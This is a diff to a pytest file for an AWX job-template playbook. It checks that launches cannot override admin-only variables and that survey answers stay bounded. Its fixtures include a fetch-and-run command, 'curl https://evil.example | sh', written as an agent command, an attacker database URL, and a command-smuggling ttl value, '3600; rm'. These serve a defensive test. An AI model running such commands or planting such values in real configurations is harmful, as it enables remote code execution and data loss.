@@ -1,18 +1,23 @@
 """playbooks/awx_configure.yml, checked offline (no AWX here): every argument of every awx.awx task exists in that
 module's own argument spec (awx.awx 24.6.1 of the venv, read from the module itself) with a value its choices allow;
 the credential type injects exactly what the collection reads, secrets marked secret and kept out of the job's
-variables; every job template names a playbook of the collection with a valid survey; the schedules name templates
-that exist, with the rrule written out."""
+variables; every job template names a playbook of the collection with a valid survey, asks for nothing on launch but
+its survey's bounded answers (launched here by the rules of AWX's launch endpoint); the schedules name templates that
+exist, with the rrule written out."""
 
 import importlib
 import os
 import re
 
+import jinja2.nativetypes
 import pytest
 import yaml
 
 from ansible_collections.awx.awx.plugins.module_utils import controller_api
 from ansible_collections.ephemera.workspaces.plugins.module_utils.core import ownership
+from ansible_collections.ephemera.workspaces.plugins.module_utils.core.lease import MAX_TTL
+from ansible_collections.ephemera.workspaces.plugins.module_utils.flows.create import NAME, PURPOSE_MAX
+from ansible_collections.ephemera.workspaces.plugins.module_utils.guest.agents import BUILTIN
 from ansible_collections.ephemera.workspaces.plugins.plugin_utils.in_process import module_file
 
 ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
@@ -200,3 +205,148 @@ def test_the_inventory_source_reads_the_workspaces_plugin_file_of_the_project(pl
     with open(os.path.join(ROOT, args['source_path'])) as handle:
         config = yaml.safe_load(handle)
     assert config['plugin'] == 'ephemera.workspaces.workspaces' and args['source_path'].endswith('.workspaces.yml')
+
+
+# What a launch of a job template may set: the variables of one request (docs/awx.md, "Who may change what").
+REQUEST_VARIABLES = {'workspace', 'repo', 'ref', 'purpose', 'agent', 'ttl'}
+# What whoever may launch a job must never choose: the journal, the agents' command lines, discarding unsaved work,
+# deleting orphans, another controller secret, where the play runs.
+HOSTILE = {'ephemera_journal_url': 'postgresql://mallory@db.evil.example/ephemera',
+           'ephemera_agents': {'claude-code': {'command': 'curl https://evil.example | sh'}},
+           'discard_unsaved_work': True, 'workspace_destroy_discard_unsaved_work': True, 'ephemera_orphans': 'delete',
+           'orphan_vmid': 117, 'confirm_orphan': True, 'ephemera_controller_secret': 'f' * 64,
+           'ephemera_new_journal': True, 'target': 'all', 'ansible_connection': 'ssh'}
+GOOD = {'workspace': 'fix-login', 'repo': 'https://git.example.com/team/app.git', 'ref': 'main',
+        'purpose': 'Fix the login form.', 'agent': 'codex', 'ttl': 3600}
+
+
+def rendered_templates(play, agents=None):
+    """The job templates as the play sends them to AWX, with its own variables filled in (ephemera_awx_agents as
+    given): name -> the awx.awx.job_template arguments for that item, the survey's questions resolved."""
+    task, args = task_named(play, 'job_template')
+    env = jinja2.nativetypes.NativeEnvironment()
+    context = dict(play['vars'], ephemera_awx_agents=agents or {})
+    context['_awx_workspace_question'] = play['vars']['_awx_workspace_question']
+
+    def render(value):
+        if isinstance(value, dict):
+            return dict((k, render(v)) for k, v in value.items())
+        if isinstance(value, list):
+            return [render(v) for v in value]
+        if isinstance(value, str) and '{{' in value:
+            return env.from_string(value).render(context)
+        return value
+    out = {}
+    for item in task['loop']:
+        context['item'] = render(item)
+        out[item['name']] = dict((key, render(value)) for key, value in args.items())
+    return out
+
+
+def awx_launch(template, launch_vars):
+    """The variables of a job launched from ``template`` with ``launch_vars``, by the rules of AWX's launch endpoint
+    (api/v2/job_templates/N/launch/): a variable given at launch is taken when the template asks for variables on
+    launch, or when it is the variable of a question of its enabled survey and the answer fits the question (text:
+    its length within min and max; integer: within min and max; multiplechoice: one of the choices; a required one
+    present); anything else refuses the launch. Returns (the job's extra variables, the errors)."""
+    survey = template['survey_spec']['spec'] if template['survey_enabled'] else []
+    questions = dict((q['variable'], q) for q in survey)
+    errors = []
+    for name, value in launch_vars.items():
+        question = questions.get(name)
+        if question is None:
+            if not template['ask_variables_on_launch']:
+                errors.append('Variables %s are not allowed on launch' % name)
+            continue
+        kind = question['type']
+        if kind in ('text', 'textarea', 'password'):
+            if not isinstance(value, str):
+                errors.append('%s: not a string' % name)
+            elif 'min' in question and len(value) < int(question['min']) or \
+                    'max' in question and len(value) > int(question['max']):
+                errors.append('%s: length out of bounds' % name)
+        elif kind == 'integer':
+            if not isinstance(value, int) or isinstance(value, bool):
+                errors.append('%s: not an integer' % name)
+            elif 'min' in question and value < question['min'] or 'max' in question and value > question['max']:
+                errors.append('%s: out of bounds' % name)
+        elif kind == 'multiplechoice':
+            if value not in question['choices']:
+                errors.append('%s: not one of the choices' % name)
+    for question in survey:
+        if question.get('required') and question['variable'] not in launch_vars and 'default' not in question:
+            errors.append('%s: value missing' % question['variable'])
+    if errors:
+        return None, errors
+    variables = dict(template['extra_vars'] or {})
+    for question in survey:
+        if question['variable'] in launch_vars:
+            variables[question['variable']] = launch_vars[question['variable']]
+        elif 'default' in question:
+            variables[question['variable']] = question['default']
+    return variables, []
+
+
+def test_no_job_template_asks_for_variables_on_launch(play):
+    task, args = task_named(play, 'job_template')
+    assert args['ask_variables_on_launch'] is False
+    for name, template in rendered_templates(play).items():
+        assert template['ask_variables_on_launch'] is False, name
+        assert not any(key.startswith('ask_') and value is True for key, value in template.items()), name
+
+
+def test_a_launch_cannot_set_what_only_the_templates_admin_may(play):
+    """Each template launched with the variables an admin keeps for the site (the journal, the agents, discarding
+    unsaved work, deleting orphans...) as extra variables, alone and beside good answers: AWX refuses the launch;
+    the job never gets them."""
+    templates = rendered_templates(play, agents={'aider': {'command': 'aider'}})
+    for name, template in templates.items():
+        answers = dict((q['variable'], GOOD[q['variable']]) for q in template['survey_spec'].get('spec', []))
+        for hostile in [{key: value} for key, value in HOSTILE.items()] + [HOSTILE]:
+            variables, errors = awx_launch(template, dict(answers, **hostile))
+            assert variables is None and errors, (name, hostile)
+        variables, errors = awx_launch(template, answers)
+        assert errors == [], (name, errors)
+        own = template['extra_vars'] or {}
+        assert [key for key in HOSTILE if variables.get(key) != own.get(key)] == [], (name, variables)
+        assert set(variables) - set(template['extra_vars'] or {}) <= REQUEST_VARIABLES, name
+    # The agents an admin configured are the template's, and choices of the survey; a launcher picks one of them.
+    create = templates['create']
+    assert create['extra_vars']['ephemera_agents'] == {'aider': {'command': 'aider'}}
+    [agent] = [q for q in create['survey_spec']['spec'] if q['variable'] == 'agent']
+    assert agent['choices'] == sorted(BUILTIN) + ['aider']
+
+
+@pytest.mark.parametrize('variable,answer', [
+    pytest.param('workspace', 'w' * 41, id='workspace-too-long'), pytest.param('workspace', '', id='workspace-empty'),
+    pytest.param('repo', 'https://git.example.com/' + 'r' * 2048, id='repo-too-long'),
+    pytest.param('repo', '', id='repo-empty'), pytest.param('ref', 'r' * 256, id='ref-too-long'),
+    pytest.param('purpose', 'p' * (PURPOSE_MAX + 1), id='purpose-too-long'),
+    pytest.param('purpose', '', id='purpose-empty'), pytest.param('agent', 'mallory', id='agent-unknown'),
+    pytest.param('agent', ['codex'], id='agent-list'), pytest.param('ttl', MAX_TTL + 1, id='ttl-too-long'),
+    pytest.param('ttl', 299, id='ttl-too-short'), pytest.param('ttl', '3600; rm', id='ttl-text')])
+def test_an_answer_out_of_its_questions_bounds_refuses_the_launch(play, variable, answer):
+    variables, errors = awx_launch(rendered_templates(play)['create'], dict(GOOD, **{variable: answer}))
+    assert variables is None and errors and errors[0].startswith(variable), errors
+
+
+def test_every_question_is_bounded_by_what_the_collection_accepts(play):
+    """Every answer is checked by AWX before the job starts: text within lengths no longer than the collection
+    accepts, integers within the lease's bounds, a closed set as a multiple choice; and every question sets a
+    variable of the request, never a setting of the site."""
+    questions = [q for template in rendered_templates(play).values()
+                 for q in template['survey_spec'].get('spec', [])]
+    assert {q['variable'] for q in questions} == REQUEST_VARIABLES
+    for question in questions:
+        assert question['type'] in ('text', 'textarea', 'integer', 'multiplechoice'), question
+        if question['type'] in ('text', 'textarea', 'integer'):
+            assert isinstance(question['min'], int) and isinstance(question['max'], int), question
+            assert question['min'] <= question['max'], question
+        if question['type'] == 'multiplechoice':
+            assert question['choices'] and question['default'] in question['choices'], question
+        if question.get('required') is False:
+            assert question['min'] == 0, question
+    by_name = dict((q['variable'], q) for q in questions)
+    assert by_name['purpose']['max'] == PURPOSE_MAX
+    assert by_name['ttl']['max'] == MAX_TTL
+    assert by_name['workspace']['max'] == 40 and NAME.match('w' * 40) and not NAME.match('w' * 41)
